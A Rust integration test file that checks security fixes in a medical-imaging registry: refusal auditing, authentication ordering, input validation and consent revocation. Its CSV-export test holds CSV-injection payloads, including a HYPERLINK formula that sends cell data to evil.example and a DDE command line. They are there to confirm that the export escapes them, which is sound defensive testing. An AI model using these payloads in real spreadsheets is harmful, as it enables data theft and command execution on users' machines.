//! The registry's side of issue 22 (and issue 17's consent item), one test
//! per weakness, each against a real `huren registry` process. Each fails
//! on main at a31a4e8, before the fixes.

use serde_json::{Value, json};

use crate::metrics::{Process, spawn_registry_with};
use crate::region::{ADMIN_TOKEN, Api, RID, add_hospital, patient_key};
use crate::support::repo_path;

const HOSP_A: &str = "HOSPA0000000000001";
const HOSP_B: &str = "HOSPB0000000000002";
/// An item of deploy/recognition/jiangsu-example.toml.
const KNOWN_ITEM: &str = "CT-0101-01";

/// A registry with the shipped recognition list and `extra` arguments,
/// hospitals A and B, and clients: (process, admin, A, B).
async fn region(dir: &std::path::Path, extra: &[&str]) -> (Process, Api, Api, Api) {
    let list = repo_path("deploy/recognition/jiangsu-example.toml");
    let mut args = vec!["--recognition-list", list.to_str().unwrap()];
    args.extend_from_slice(extra);
    let registry = spawn_registry_with(dir, &args);
    let base = format!("http://{}", registry.addrs[0]);
    let admin = Api::new(&base, Some(ADMIN_TOKEN));
    let a = add_hospital(&admin, HOSP_A, "三级甲等", None).await;
    let b = add_hospital(&admin, HOSP_B, "二级甲等", None).await;
    (
        registry,
        admin.clone(),
        Api::new(&base, Some(&a)),
        Api::new(&base, Some(&b)),
    )
}

fn record(uid: &str) -> Value {
    json!({
        "study_instance_uid": uid, "record_version": 1, "patient_key": patient_key(RID),
        "items": [{"code": KNOWN_ITEM}], "modalities": ["CT"], "body_parts": ["CHEST"],
        "contrast": "none", "laterality": [], "view_positions": [], "study_date": "2025-01-02",
        "study_time": "09:30:00", "report_status": "final", "report_issued_date": "2025-01-02",
        "qc_status": "passed", "images_available": true, "number_of_series": 2,
        "number_of_instances": 120, "bytes": 64000000, "content_root": "0".repeat(64),
    })
}

async fn audit(admin: &Api) -> Vec<Value> {
    admin.ok("GET", "/v1/audit?limit=10000", None).await["entries"]
        .as_array()
        .unwrap()
        .clone()
}

fn in_days(days: i64) -> String {
    let now = std::time::SystemTime::now();
    let t = if days >= 0 {
        now + std::time::Duration::from_secs(days as u64 * 86400)
    } else {
        now - std::time::Duration::from_secs((-days) as u64 * 86400)
    };
    humantime::format_rfc3339(t).to_string()
}

fn consent(method: &str, state: &str, expires_at: &str) -> Value {
    json!({"patient_key": patient_key(RID), "hospital_id": HOSP_A, "method": method,
           "recorded_by": "dr.li", "state": state, "expires_at": expires_at})
}

/// Refusals audited: a 401 and a 403 on routes that audited nothing of
/// them before, each with the caller as far as known and the route; one
/// caller refused in a loop gets at most K entries a minute and one notice.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_refusal_is_audited_and_one_caller_cannot_fill_the_trail() {
    let dir = tempfile::tempdir().unwrap();
    let (registry, admin, a, _) = region(dir.path(), &["--audit-refusals-per-minute", "3"]).await;
    let base = format!("http://{}", registry.addrs[0]);

    let forged = Api::new(&base, Some(&format!("{HOSP_A}.not-the-secret")));
    let (status, _) = forged
        .call(
            "GET",
            &format!("/v1/consents?patient_key={}", patient_key(RID)),
            None,
        )
        .await;
    assert_eq!(status, 401);
    let (status, _) = a.call("GET", "/v1/audit", None).await;
    assert_eq!(status, 403);

    let entries = audit(&admin).await;
    let refusals: Vec<&Value> = entries
        .iter()
        .filter(|e| e["action"] == "refusal")
        .collect();
    assert_eq!(refusals.len(), 2, "{refusals:#?}");
    // A token that does not verify names nobody: anonymous, from where.
    assert_eq!(refusals[0]["actor"], "anonymous");
    assert_eq!(refusals[0]["outcome"], "unauthorized");
    let detail = refusals[0]["detail"].as_str().unwrap();
    assert!(
        detail.starts_with("401 GET /v1/consents from 127.0.0.1:"),
        "{detail}"
    );
    assert!(
        !detail.contains(&patient_key(RID)),
        "the route's template, not the URL"
    );
    assert_eq!(refusals[1]["actor"], HOSP_A);
    assert_eq!(refusals[1]["user_id"], "dr.li");
    assert_eq!(refusals[1]["outcome"], "forbidden");
    assert!(
        refusals[1]["detail"]
            .as_str()
            .unwrap()
            .starts_with("403 GET /v1/audit from 127.0.0.1:")
    );

    // Twenty refusals in a row: at most K entries and one notice per
    // minute (two minutes if the loop straddles a boundary).
    let anonymous = Api::new(&base, None);
    for _ in 0..20 {
        let (status, _) = anonymous.call("GET", "/v1/hospitals", None).await;
        assert_eq!(status, 401);
    }
    let entries = audit(&admin).await;
    let anonymous: Vec<&Value> = entries
        .iter()
        .filter(|e| e["action"] == "refusal" && e["actor"] == "anonymous")
        .collect();
    let one_by_one = anonymous
        .iter()
        .filter(|e| e["outcome"] == "unauthorized")
        .count();
    let notices = anonymous
        .iter()
        .filter(|e| e["outcome"] == "rate_limited")
        .count();
    assert!((3..=6).contains(&one_by_one), "{anonymous:#?}");
    assert!((1..=2).contains(&notices), "{anonymous:#?}");
    drop(registry);
}

/// Authenticate before reading the body: without a token, a malformed or
/// mistyped body is answered 401, not 400 or 415.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_token_is_401_before_the_body_is_read() {
    let dir = tempfile::tempdir().unwrap();
    let (registry, _, _, _) = region(dir.path(), &[]).await;
    let client = reqwest::Client::new();
    for (path, content_type, body) in [
        ("/v1/consents", "application/json", "{not json"),
        (
            "/v1/priors/query",
            "application/json",
            r#"{"patient_key": 3201}"#,
        ),
        (
            "/v1/hospitals/HOSPA0000000000001/records",
            "text/plain",
            "records",
        ),
        ("/v1/grants/verify", "application/json", "[]"),
    ] {
        let response = client
            .post(format!("http://{}{path}", registry.addrs[0]))
            .header("content-type", content_type)
            .body(body)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status().as_u16(), 401, "{path}");
        assert_eq!(
            response.headers()["www-authenticate"],
            "Bearer realm=\"huren\""
        );
    }
}

/// Who may comes before what was sent: a hospital's token on another
/// hospital's publish path or on an admin route gets 403, audited, even
/// with a malformed body; and every error is problem+json, also those of
/// a query string or a method the route lacks.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hospital_is_refused_before_its_body_is_read() {
    let dir = tempfile::tempdir().unwrap();
    let (registry, admin, a, _) = region(dir.path(), &[]).await;
    let base = format!("http://{}", registry.addrs[0]);
    let client = reqwest::Client::new();
    let c_id = "HOSPC0000000000003";
    let a_token = add_hospital(&admin, c_id, "二级甲等", None).await;
    for (method, path, body) in [
        (
            "POST",
            format!("/v1/hospitals/{HOSP_B}/records"),
            r#"{"records":[{}]}"#,
        ),
        ("POST", format!("/v1/hospitals/{HOSP_B}/records"), "xx"),
        ("POST", "/v1/hospitals".to_string(), "{}"),
        ("PATCH", format!("/v1/hospitals/{HOSP_B}"), r#"{"x":1}"#),
    ] {
        let response = client
            .request(method.parse().unwrap(), format!("{base}{path}"))
            .bearer_auth(&a_token)
            .header("content-type", "application/json")
            .body(body)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status().as_u16(), 403, "{method} {path} {body}");
    }
    let entries = audit(&admin).await;
    let denied = entries
        .iter()
        .filter(|e| e["actor"] == c_id && (e["outcome"] == "denied" || e["outcome"] == "forbidden"))
        .count();
    assert_eq!(denied, 4, "{entries:#?}");

    // Errors axum writes itself, as problem+json: a query string that does
    // not deserialise, a method the route lacks (its Allow kept).
    for (method, path, status) in [
        ("GET", "/v1/consents".to_string(), 400),
        (
            "DELETE",
            format!("/v1/hospitals/{HOSP_A}/records/1.2.3"),
            405,
        ),
        ("GET", "/v1/priors/query".to_string(), 405),
    ] {
        let response = client
            .request(method.parse().unwrap(), format!("{base}{path}"))
            .bearer_auth(&a_token)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status().as_u16(), status, "{method} {path}");
        assert_eq!(
            response.headers()["content-type"],
            "application/problem+json",
            "{method} {path}"
        );
        if status == 405 {
            assert!(response.headers().contains_key("allow"), "{method} {path}");
        }
        let problem: Value = response.json().await.unwrap();
        assert_eq!(problem["status"], status, "{problem}");
    }
    // The contract's bodies are objects; page_size is at least 1.
    let (status, problem) = a
        .call(
            "POST",
            &format!("/v1/hospitals/{HOSP_A}/records"),
            Some(json!([])),
        )
        .await;
    assert_eq!(status, 400, "{problem}");
    let (status, problem) = a
        .call(
            "POST",
            "/v1/priors/query",
            Some(
                json!({"patient_key": patient_key(RID), "purpose": "treatment",
                        "user_id": "dr.li", "page_size": 0}),
            ),
        )
        .await;
    assert_eq!(status, 400, "{problem}");
    drop(registry);
}

/// Input validation: impossible dates and times, negative counts, unknown
/// item codes, huge strings and arrays are 400, and no message repeats a
/// value the client sent.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn published_records_are_validated_and_errors_repeat_no_value() {
    let dir = tempfile::tempdir().unwrap();
    let (registry, _, _, b) = region(dir.path(), &[]).await;
    let path = format!("/v1/hospitals/{HOSP_B}/records");
    let uid = "1.2.826.0.1.3680043.8.498.22.1";
    let good = record(uid);
    b.ok("POST", &path, Some(json!({"records": [good.clone()]})))
        .await;

    let huge = "X".repeat(100 * 1024);
    let many: Vec<&str> = vec!["CHEST"; 200_000];
    let cases: Vec<(&str, Value)> = vec![
        ("study_date", json!("2024-02-30")),
        ("report_issued_date", json!("2023-02-29")),
        ("study_time", json!("25:00:00")),
        ("study_time", json!("12:61:00")),
        ("number_of_instances", json!(-1)),
        ("number_of_series", json!(-5)),
        ("bytes", json!(-1)),
        ("items", json!([{"code": "ZZ-9999-99"}])),
        ("modalities", json!([huge])),
        ("body_parts", json!(many)),
        ("study_instance_uid", json!("1.2.3.secret-accession-3201")),
    ];
    for (field, value) in cases {
        let mut bad = good.clone();
        bad[field] = value.clone();
        bad["record_version"] = json!(2);
        let (status, problem) = b.call("POST", &path, Some(json!({"records": [bad]}))).await;
        assert_eq!(status, 400, "{field}: {problem}");
        let detail = problem["detail"].as_str().unwrap();
        assert!(
            detail.contains(field.split('.').next().unwrap()),
            "{field}: {detail}"
        );
        for echoed in [uid, "2024-02-30", "25:00:00", "ZZ-9999", "XXXXXXXX", "3201"] {
            assert!(
                !detail.contains(echoed),
                "{field}: {detail} repeats {echoed}"
            );
        }
        assert!(!detail.contains(&patient_key(RID)));
    }
    // A value of the wrong type: serde would have quoted it.
    let mut bad = good.clone();
    bad["patient_key"] = json!(320_119_490_101_i64);
    let (status, problem) = b.call("POST", &path, Some(json!({"records": [bad]}))).await;
    assert_eq!(status, 400);
    assert_eq!(
        problem["detail"],
        "field records[0].patient_key has the wrong type"
    );
    drop(registry);
}

/// CSV export: formula-like cells are neutralised and quoted (OWASP CSV
/// injection).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_audit_csv_neutralises_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let (registry, admin, a, _) = region(dir.path(), &[]).await;
    for recorded_by in [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
    ] {
        let mut body = consent("doctor_assisted", "granted", &in_days(30));
        body["recorded_by"] = json!(recorded_by);
        a.ok("POST", "/v1/consents", Some(body)).await;
    }
    let (status, csv) = admin.call("GET", "/v1/audit?format=csv", None).await;
    assert_eq!(status, 200);
    let csv = csv.as_str().unwrap();
    assert!(
        csv.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\","),
        "{csv}"
    );
    assert!(csv.contains(",\"'+cmd|' /C calc'!A0\","), "{csv}");
    assert!(csv.contains(",\"'@SUM(1+1)\","), "{csv}");
    assert!(csv.contains(",\"'-2+3\","), "{csv}");
    for line in csv.lines() {
        for dangerous in [",=", ",+", ",@", ",-"] {
            assert!(!line.contains(dangerous), "{line}");
        }
    }
    drop(registry);
}

/// Consent: an expiry already past, or beyond the region's limit, is 400;
/// an SMS-code consent cannot be recorded as granted (the patient's code
/// has not come back yet).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn consent_expiry_is_policy_and_sms_consents_start_pending() {
    let dir = tempfile::tempdir().unwrap();
    let (registry, _, a, _) = region(dir.path(), &["--max-consent-days", "30"]).await;
    for (body, why) in [
        (
            consent("doctor_assisted", "granted", &in_days(-1)),
            "already past",
        ),
        (
            consent("doctor_assisted", "granted", "9999-12-31T00:00:00Z"),
            "30 days",
        ),
        (consent("qr_code", "granted", &in_days(31)), "30 days"),
        (consent("sms_code", "granted", &in_days(7)), "pending"),
    ] {
        let (status, problem) = a.call("POST", "/v1/consents", Some(body.clone())).await;
        assert_eq!(status, 400, "{body}: {problem}");
        assert!(
            problem["detail"].as_str().unwrap().contains(why),
            "{problem}"
        );
    }
    let pending = a
        .ok(
            "POST",
            "/v1/consents",
            Some(consent("sms_code", "pending", &in_days(29))),
        )
        .await;
    assert_eq!(pending["state"], "pending");
    let granted = a
        .ok(
            "POST",
            &format!(
                "/v1/consents/{}/state",
                pending["consent_id"].as_str().unwrap()
            ),
            Some(json!({"state": "granted", "recorded_by": "sms-gateway"})),
        )
        .await;
    assert_eq!(granted["state"], "granted");
    let direct = a
        .ok(
            "POST",
            "/v1/consents",
            Some(consent("qr_code", "granted", &in_days(29))),
        )
        .await;
    assert_eq!(direct["state"], "granted");
    drop(registry);
}

/// A grant presented after its patient revoked consent is refused (403,
/// audited); a break-the-glass grant did not rest on consent and holds.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_grant_is_refused_once_its_consent_is_revoked() {
    let dir = tempfile::tempdir().unwrap();
    let (registry, admin, a, b) = region(dir.path(), &[]).await;
    let uid = "1.2.826.0.1.3680043.8.498.22.2";
    b.ok(
        "POST",
        &format!("/v1/hospitals/{HOSP_B}/records"),
        Some(json!({"records": [record(uid)]})),
    )
    .await;
    let given = a
        .ok(
            "POST",
            "/v1/consents",
            Some(consent("doctor_assisted", "granted", &in_days(30))),
        )
        .await;
    let ask = |purpose: &str| {
        let mut body = json!({"holding_hospital_id": HOSP_B, "study_instance_uid": uid,
                              "purpose": purpose, "user_id": "dr.li"});
        if purpose == "emergency" {
            body["encounter"] = json!("emergency");
        }
        body
    };
    let grant = a.ok("POST", "/v1/grants", Some(ask("treatment"))).await;
    let emergency = a.ok("POST", "/v1/grants", Some(ask("emergency"))).await;
    let verify = |token: &Value| json!({"token": token.as_str().unwrap()});
    b.ok("POST", "/v1/grants/verify", Some(verify(&grant["token"])))
        .await;

    a.ok(
        "POST",
        &format!(
            "/v1/consents/{}/state",
            given["consent_id"].as_str().unwrap()
        ),
        Some(json!({"state": "revoked", "recorded_by": "health-app"})),
    )
    .await;
    let (status, problem) = b
        .call("POST", "/v1/grants/verify", Some(verify(&grant["token"])))
        .await;
    assert_eq!(status, 403, "{problem}");
    let confirmed = b
        .ok(
            "POST",
            "/v1/grants/verify",
            Some(verify(&emergency["token"])),
        )
        .await;
    assert_eq!(confirmed["purpose"], "emergency");
    // A forged grant: 404, audited too.
    let (status, _) = b
        .call(
            "POST",
            "/v1/grants/verify",
            Some(json!({"token": "hg.forged"})),
        )
        .await;
    assert_eq!(status, 404);

    let entries = audit(&admin).await;
    let refused: Vec<&Value> = entries
        .iter()
        .filter(|e| e["action"] == "grant_verify" && e["outcome"] == "refused")
        .collect();
    assert_eq!(refused.len(), 2, "{refused:#?}");
    assert_eq!(refused[0]["actor"], HOSP_B);
    assert!(refused[0]["detail"].as_str().unwrap().contains("revoked"));
    assert_eq!(refused[0]["patient_key"], patient_key(RID));
    assert!(
        refused[1]["detail"]
            .as_str()
            .unwrap()
            .contains("never issued")
    );
    // The refusal is audited once, not again by the middleware.
    assert!(!entries.iter().any(|e| e["action"] == "refusal"));
    drop(registry);
}
